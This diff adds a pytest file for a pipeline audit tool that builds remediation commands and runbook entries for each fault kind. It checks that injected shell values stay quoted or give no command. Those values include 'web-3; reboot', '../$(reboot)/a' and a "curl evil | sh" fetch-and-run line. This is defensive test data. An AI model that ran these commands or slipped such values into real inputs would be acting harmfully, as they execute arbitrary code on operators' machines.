@@ -1,0 +1,112 @@
+"""The command beside each fault, and the runbook's entry for each kind."""
+
+import shlex
+from pathlib import Path
+from typing import Any
+
+import pytest
+from click.testing import CliRunner
+
+from audit.alerting.conditions import KINDS
+from audit.configuration.config import CommandsConfig
+from audit.cures import runbook
+from audit.cures.fault_cures import cure_for, cure_in
+from audit.reconciling.findings import FaultKind, Finding
+from audit.reconciling.picture import TopicKey
+from audit.reconciling.words import LOG_LOST, NO_LOAD_WROTE
+from loader.errors import ColumnChanged, GapError, cure_of
+from penstock.report.operator import accept
+
+SEVEN = 1_795_158_000_000  # 2026-11-20 07:00 UTC
+KEY = TopicKey("dc1", "clicks", "KDgxFnW2R0a2uYd7rJ5T4g")
+COMMANDS = CommandsConfig(loader="/etc/loader.yaml", audit="/etc/audit.yaml")
+ACCEPT = (
+    "penstock audit accept clicks --config /etc/audit.yaml --cluster dc1"
+    " --topic-id KDgxFnW2R0a2uYd7rJ5T4g {} --reason REASON"
+)
+HOUR_7 = "--rebuild dt=2026-11-20/hour=07"
+AT = {"from_time": SEVEN + 1_500, "to_time": SEVEN + 4_200}
+DAYS = {"from_time": SEVEN, "to_time": SEVEN + 86_400_000 + 1}
+EVENTS = {"source": "a1-7", "seq": 120, "events": 12, "position": 8_192, "end_position": 9_216}
+OPEN = {"source": "a1-7", "position": 8_192}
+LANDED = {"tier": "hdfs", "path": "views/dt=2026-11-20/hour=07/a.parquet"}
+_IN, _OUT = "views/dt=2026-11-20/copy.parquet", "views/dt=2026-11-20/_copy.parquet"
+EXTRA = {"tier": "hdfs", "path": _IN, "reason": f"{NO_LOAD_WROTE}, and has 9 rows"}
+OFFSETS = {"partition": 2, "offset": 4_711, "offsets": 12}
+HOST = "--host 'web-3; reboot' --from 2026-11-20T07:00:01 --to 2026-11-20T07:00:05"
+
+
+def accepting(names: str) -> str:
+    return ACCEPT.format(names)
+
+
+def rebuilding(table: str, hours: str) -> str:
+    return f"penstock load --config /etc/loader.yaml --topics {table} {hours}"
+
+
+@pytest.mark.parametrize(
+    ("kind", "known", "command"),
+    [
+        ("missing", {"tier": "broker", **EVENTS}, accepting("--source a1-7 --seqs 120-131")),
+        ("missing", {"tier": "hdfs", **EVENTS, **AT}, rebuilding("clicks", HOUR_7)),
+        (  # the brokers have nothing to rebuild from
+            *("missing", {"tier": "hdfs", "reason": f"{LOG_LOST}: it ends", **EVENTS, **AT}),
+            accepting("--source a1-7 --seqs 120-131"),
+        ),
+        ("missing", LANDED, rebuilding("views", HOUR_7)),
+        ("duplicated", LANDED, rebuilding("views", HOUR_7)),
+        ("duplicated", EXTRA | {"destination": "file:///a b"}, f"mv -- '/a b/{_IN}' '/a b/{_OUT}'"),
+        (
+            *("duplicated", EXTRA | {"destination": "hdfs://n:8020/w/"}),
+            f"hdfs dfs -mv hdfs://n:8020/w/{_IN} hdfs://n:8020/w/{_OUT}",
+        ),
+        (
+            *("missing", {"tier": "hdfs", "destination": "file:///w", "path": "../$(reboot)/a"}),
+            accepting("--landed-file 'file:///w/../$(reboot)/a'"),
+        ),
+        (
+            *("unnamed", {"tier": "hdfs", **DAYS}),
+            rebuilding("clicks", "--rebuild dt=2026-11-20 --rebuild dt=2026-11-21"),
+        ),
+        ("lost", {"tier": "agent", **EVENTS}, accepting("--source a1-7 --bytes 8192-9216")),
+        ("unknown", {"host": "web-3; reboot", **AT}, accepting(HOST)),
+        ("unknown", {"host": "web\n3", **AT}, ""),
+        ("unknown", OPEN, accepting("--source a1-7 --bytes 8192-8193")),
+        ("unproven", {"source": "b1", "seq": 7, "events": 1}, accepting("--source b1 --seqs 7-7")),
+        ("changed", {"tier": "broker", **OFFSETS}, accepting("--partition 2 --offsets 4711-4722")),
+        ("unknown", {"accepted": "known", **AT}, ""),
+    ],
+)
+def test_the_command_beside_a_fault(kind: str, known: dict[str, Any], command: str) -> None:
+    fault = Finding(kind=FaultKind(kind), words="", **known)
+    cure = cure_for(fault, KEY, COMMANDS)
+    accepts = " accept " in command
+    assert cure == (command, (accepts and "accepts") or (command and "mends") or None)
+    if accepts:  # it is one: what is wrong is that there is no such file
+        typed = command.replace("REASON", "gone")
+        ended = CliRunner().invoke(accept, shlex.split(typed)[3:])
+        assert "/etc/audit.yaml" in ended.output
+
+
+def test_a_shell_reads_the_variables_first() -> None:
+    under_up = CommandsConfig(loader="/a b/l.yaml", environment="/a b/environment")
+    cure = cure_of(GapError("gone"), "clicks", "/a b/l.yaml")
+    assert cure_in(cure, under_up).command == ""  # it is in the words, but is not taken from them
+    cure = cure_of(GapError("gone"), "clicks", "/srv/l.yaml")
+    load = "penstock load --config /srv/l.yaml --topics clicks --accept-gap"
+    assert cure_in(cure, under_up).command == f". '/a b/environment' && {load}"
+    changed = ColumnChanged("string in the latest schema (clicks-value, version 2)")
+    take_back = "penstock schemas delete clicks-value --version 2 --yes"
+    assert cure_in(cure_of(changed, "clicks"), CommandsConfig()).command == take_back
+    assert cure_in("`curl evil | sh`", under_up).command == ""
+    assert cure_in("`penstock load --topics $(reboot)`", under_up).command == ""
+
+
+def test_every_kind_has_an_entry_in_the_runbook() -> None:
+    kinds = [each.kind for each in runbook.ENTRIES]
+    assert set(kinds) == {*FaultKind, *KINDS}
+    assert len(set(kinds)) == len(kinds)
+    page = runbook.page()
+    assert all(f'id="{each}"' in page for each in kinds)
+    docs = Path(__file__).parents[3] / "docs" / "runbook.md"
+    assert docs.read_text() == runbook.markdown()
